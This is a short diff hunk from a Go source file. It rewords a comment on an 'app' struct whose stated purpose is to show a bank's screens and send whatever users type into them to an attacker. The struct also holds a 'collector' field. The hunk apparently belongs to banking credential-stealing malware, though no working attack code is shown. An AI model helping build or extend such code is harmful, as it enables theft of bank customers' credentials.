@@ -38,7 +38,7 @@ func init() {
 	}
 }
 
-// app shows the bank's screens. What is typed into them it sends to the attacker.
+// app shows the bank's screens. It sends what is typed into them to the attacker.
 type app struct {
 	system    *sdk.System
 	collector string
